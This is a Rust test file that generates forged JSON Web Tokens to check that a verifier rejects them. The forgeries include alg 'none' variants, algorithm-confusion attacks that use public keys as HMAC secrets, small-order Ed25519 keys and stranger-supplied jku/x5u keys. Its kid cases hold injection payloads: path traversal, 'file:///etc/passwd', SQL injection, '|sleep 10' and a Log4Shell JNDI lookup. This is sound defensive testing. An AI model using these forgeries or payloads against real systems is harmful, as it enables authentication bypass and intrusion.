//! Tokens signed with the wrong key, or with the right key and the wrong algorithm.

use serde_json::{Value, json};
use testing::{
    jwks::Issuer,
    token::{Key, Token, compact, segment, under_low_order},
};

use super::{
    Attack,
    Refusal::{Invalid, UnknownKey},
    honest, honest_by, low_order, secret, unusable, with_header,
};

pub(super) fn all(stranger: &Issuer) -> Vec<Attack> {
    let groups = [
        none(),
        public_keys_as_secrets(),
        secrets(),
        swaps(),
        strangers(),
        withheld(),
        low_order_keys(),
        brought_along(stranger),
        kids(),
    ];
    groups.into_iter().flatten().collect()
}

/// One key of each family, with one of its algorithms.
fn families() -> [(Key, &'static str); 4] {
    [
        (Key::rsa("rsa"), "RS256"),
        (Key::p256("p256"), "ES256"),
        (Key::p384("p384"), "ES384"),
        (Key::ed25519("ed25519"), "EdDSA"),
    ]
}

/// Values of `alg` that no verifier may accept: without a signature, and correctly signed with the secret.
fn none() -> Vec<Attack> {
    let spellings = [
        r#""none""#,
        r#""None""#,
        r#""NONE""#,
        r#""nOnE""#,
        r#"" none""#,
        r#""none ""#,
        r#""\u006eone""#,
        r#""none\u0000""#,
        "\"n\u{43e}ne\"", // a Cyrillic o
        r#""""#,
        "null",
        "true",
        "256",
        "{}",
        r#"["HS256"]"#,
        r#"["none"]"#,
        r#""hs256""#,
        r#""HS256 ""#,
        r#"" HS256""#,
        r#""HS256\u0000""#,
        r#""HS256\u200b""#,
        "\"\u{ff28}\u{ff33}256\"", // full-width letters
        r#""HS1""#,
        r#""eddsa""#,
        r#""dir""#,
        r#""RSA-OAEP""#,
    ];
    let attacks = spellings.into_iter().flat_map(|alg| {
        let token = with_header(format!(r#"{{"alg":{alg},"typ":"JWT"}}"#));
        let unsigned = &token[..=token.rfind('.').unwrap()];
        [
            Attack::new(format!("alg {alg} without a signature"), unsigned, Invalid),
            Attack::new(format!("alg {alg}, signed with the secret"), &token, Invalid),
        ]
    });
    let without = Attack::new("no alg", &honest().without_header("alg").sign(), Invalid);
    let homoglyph = Attack::new("alg with a Cyrillic a", &with_header("{\"\u{430}lg\":\"HS256\"}"), Invalid);
    let capitals = Attack::new("ALG", &with_header(r#"{"ALG":"HS256"}"#), Invalid);
    let unsupported = ["ES512", "ES256K", "Ed448"].map(|alg| {
        Attack::new(
            format!("{alg}, which is not supported"),
            &with_header(json!({ "alg": alg }).to_string()),
            UnknownKey,
        )
    });
    attacks.chain([without, homoglyph, capitals]).chain(unsupported).collect()
}

/// The classic attack: a public key, which everybody can read, used as an HMAC secret.
fn public_keys_as_secrets() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for (key, algorithm) in families() {
        for (encoding, bytes) in key.public_encodings() {
            for hmac in ["HS256", "HS384", "HS512"] {
                let token = honest().header("kid", key.kid()).key(&Key::secret(&bytes), hmac).sign();
                attacks.push(Attack::new(format!("{hmac} with the {algorithm} key as {encoding}"), &token, Invalid));
            }
        }
    }
    attacks
}

fn secrets() -> Vec<Attack> {
    let by = |secret: &[u8]| honest().key(&Key::secret(secret), "HS256");
    let own = testing::token::SECRET;
    let known = b"a-secret-that-stands-in-the-set-by-mistake";
    let header = |algorithm: &str| json!({ "alg": algorithm }).to_string();
    let mixed = |named: &str, key: &Key, used: &str| compact(header(named), honest().claims_text(), key, used);
    vec![
        Attack::new("an empty secret", &by(b"").sign(), Invalid),
        Attack::new("a secret of zeros", &by(&[0; 32]).sign(), Invalid),
        Attack::new("the secret and a line feed", &by(format!("{own}\n").as_bytes()).sign(), Invalid),
        Attack::new("the secret without its last byte", &by(&own.as_bytes()[..own.len() - 1]).sign(), Invalid),
        Attack::new("the secret in the key set", &by(known).header("kid", "oct").sign(), Invalid),
        Attack::new("the secret in the key set, without kid", &by(known).sign(), Invalid),
        Attack::new("HS256 named, HS512 used", &mixed("HS256", &secret(), "HS512"), Invalid),
        Attack::new("HS512 named, HS256 used", &mixed("HS512", &secret(), "HS256"), Invalid),
        Attack::new("RS256 named, HS256 used", &mixed("RS256", &secret(), "HS256"), Invalid),
        Attack::new("EdDSA named, HS256 used", &mixed("EdDSA", &secret(), "HS256"), Invalid),
        Attack::new("HS256 named, RS256 used", &mixed("HS256", &Key::rsa("rsa"), "RS256"), Invalid),
        Attack::new("HS256 named, EdDSA used", &mixed("HS256", &Key::ed25519("ed25519"), "EdDSA"), Invalid),
    ]
}

/// Valid keys, each in the place of another.
fn swaps() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for (key, algorithm) in families() {
        for (other, _) in families().into_iter().filter(|(other, _)| other.kid() != key.kid()) {
            let token = honest_by(&key, algorithm).header("kid", other.kid());
            attacks.push(Attack::new(
                format!("{algorithm} with the kid of {}", other.kid().unwrap()),
                &token.sign(),
                UnknownKey,
            ));
        }
    }
    let (rsa, pinned) = (Key::rsa("rsa"), Key::rsa("rsa-ps256"));
    for algorithm in ["RS256", "RS384", "RS512", "PS384", "PS512"] {
        let token = honest_by(&pinned, algorithm);
        attacks.push(Attack::new(format!("{algorithm} by a key for PS256"), &token.sign(), UnknownKey));
        let name = format!("{algorithm} by a key for PS256, without kid");
        attacks.push(Attack::new(name, &token.without_header("kid").sign(), Invalid));
    }
    let other_kid = honest_by(&rsa, "PS256").header("kid", "rsa-ps256");
    attacks.push(Attack::new("PS256 with the kid of another RSA key", &other_kid.sign(), Invalid));
    for (named, used) in [("RS256", "PS256"), ("PS256", "RS256"), ("RS256", "RS512"), ("PS384", "PS256")] {
        let token = honest_by(&rsa, used).header("alg", named);
        attacks.push(Attack::new(format!("{named} named, {used} used"), &token.sign(), Invalid));
    }
    attacks
}

/// Correct signatures by keys that are not in the set.
fn strangers() -> Vec<Attack> {
    let strangers =
        [Key::rsa("stranger"), Key::p256("stranger"), Key::p384("stranger"), Key::ed25519("stranger")].into_iter();
    let attacks = strangers.zip(families()).flat_map(|(stranger, (known, algorithm))| {
        let token = honest_by(&stranger, algorithm);
        [
            Attack::new(format!("{algorithm} by a stranger"), &token.sign(), UnknownKey),
            Attack::new(
                format!("{algorithm} by a stranger with a known kid"),
                &token.clone().header("kid", known.kid()).sign(),
                Invalid,
            ),
            Attack::new(format!("{algorithm} by a stranger without kid"), &token.without_header("kid").sign(), Invalid),
        ]
    });
    attacks.collect()
}

/// Keys that are in the set, but not for signing tokens.
fn withheld() -> Vec<Attack> {
    let attacks = unusable().into_iter().flat_map(|(jwk, key, algorithm)| {
        let token = honest_by(&key, algorithm);
        let name = jwk["kid"].as_str().unwrap();
        [
            Attack::new(format!("the key {name}"), &token.sign(), UnknownKey),
            Attack::new(format!("the key {name}, not named"), &token.without_header("kid").sign(), Invalid),
        ]
    });
    attacks.collect()
}

/// Ed25519 keys of small order, under which anybody can sign. They are in the set. The tokens name them, or have no
/// `kid`.
fn low_order_keys() -> Vec<Attack> {
    let attacks = low_order().into_iter().enumerate().flat_map(|(number, point)| {
        let forged = |header: &str| {
            let payload = |salt: u64| segment(honest().claim("salt", salt).claims_text());
            under_low_order(&point, |salt| format!("{}.{}", segment(header), payload(salt)))
        };
        let named = forged(&format!(r#"{{"alg":"EdDSA","kid":"weak-{number}"}}"#));
        [
            Attack::new(format!("a signature under the key of small order {number}"), &named, UnknownKey),
            Attack::new(format!("the same without kid {number}"), &forged(r#"{"alg":"EdDSA"}"#), Invalid),
        ]
    });
    attacks.collect()
}

/// Headers that contain a key or say where one is. It is a stranger's key, and nothing may fetch it.
fn brought_along(stranger: &Issuer) -> Vec<Attack> {
    let key = Key::rsa("stranger");
    let certificate = segment("a certificate, if anybody looked");
    let members = [
        ("jwk", key.jwk()),
        ("jku", stranger.url().into()),
        ("x5u", stranger.url().into()),
        ("x5c", json!([certificate])),
        ("x5t#S256", certificate.clone().into()),
        ("iss", stranger.url().into()),
    ];
    let attacks = members.into_iter().flat_map(|(member, value): (&str, Value)| {
        let token = honest_by(&key, "RS256").header(member, value);
        let known = token.clone().header("kid", "rsa").sign();
        [
            Attack::new(format!("{member} of a stranger"), &token.sign(), UnknownKey),
            Attack::new(format!("{member} of a stranger with a known kid"), &known, Invalid),
            Attack::new(format!("{member} of a stranger without kid"), &token.without_header("kid").sign(), Invalid),
        ]
    });
    attacks.collect()
}

/// A `kid` may only be compared. No file may be opened, no query made and nothing fetched because of it.
fn kids() -> Vec<Attack> {
    let stranger = Key::p256("stranger");
    let signed = |kid: Value| honest_by(&stranger, "ES256").header("kid", kid).sign();
    let texts = [
        "../../../../../../dev/null",
        "/dev/null",
        "' or '1'='1",
        "p256'; drop table tasks; --",
        "https://stranger.example/key.json",
        "file:///etc/passwd",
        "|sleep 10",
        "${jndi:ldap://stranger.example/}",
        "P256",
        "p256 ",
        "p256\0",
        "p25\u{ff16}",
        "p%32%35%36",
        "0",
        "",
        "p256\n{\"level\":\"ERROR\"}",
    ];
    let texts = texts.into_iter().map(|kid| Attack::new(format!("kid {kid:?}"), &signed(kid.into()), UnknownKey));
    let enormous = Attack::new("kid of 5,000 bytes", &signed("k".repeat(5000).into()), UnknownKey);
    // Signed with the secret, so that only the kid is wrong.
    let honest = |kid: Value| honest().header("kid", kid);
    let types = [Value::Null, true.into(), 5.into(), 0.5.into(), json!(["p256"]), json!({ "kid": "p256" })];
    let types = types.into_iter().flat_map(|kid| {
        let of_a_key = Token::key(honest(kid.clone()), &Key::p256("p256"), "ES256").header("kid", kid.clone());
        [
            Attack::new(format!("kid {kid}, signed with the secret"), &honest(kid.clone()).sign(), Invalid),
            Attack::new(format!("kid {kid}, signed with a key"), &of_a_key.sign(), Invalid),
        ]
    });
    // If the `kid` were opened as a file, this one would give an empty secret.
    let empty = super::honest().key(&Key::secret(b""), "HS256").header("kid", "../../dev/null");
    texts.chain([enormous, Attack::new("an empty file as the secret", &empty.sign(), Invalid)]).chain(types).collect()
}
